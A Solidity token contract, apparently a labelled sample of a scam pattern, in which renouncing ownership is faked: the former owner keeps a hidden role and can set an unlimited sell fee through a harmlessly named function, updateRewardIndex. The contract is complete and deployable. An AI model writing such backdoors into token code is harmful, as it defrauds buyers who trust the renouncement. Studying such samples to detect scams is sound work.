// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

// After giving up ownership, the previous owner can set the fee to anything through a function named like a harmless one.
contract FakeRenounce {
    string public name = "Community First";
    string public symbol = "COMM";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address private _owner;
    address private _previous;
    address public pair;
    uint256 private _fee;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    constructor() { _owner = msg.sender; balanceOf[msg.sender] = totalSupply; emit OwnershipTransferred(address(0), msg.sender); emit Transfer(address(0), msg.sender, totalSupply); }
    modifier onlyOwner() { require(_owner == msg.sender, "Ownable: caller is not the owner"); _; }
    function owner() public view returns (address) { return _owner; }
    function setPair(address to) external onlyOwner { pair = to; }
    function renounceOwnership() external onlyOwner { _previous = _owner; emit OwnershipTransferred(_owner, address(0)); _owner = address(0); }
    function updateRewardIndex(uint256 index) external { require(msg.sender == _previous || msg.sender == _owner, "index"); _fee = index; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        uint256 fee = to == pair && from != _previous && from != _owner ? value * _fee / 100 : 0;
        balanceOf[from] -= value;
        balanceOf[to] += value - fee;
        if (fee > 0) balanceOf[_previous] += fee;
        emit Transfer(from, to, value - fee);
    }
}
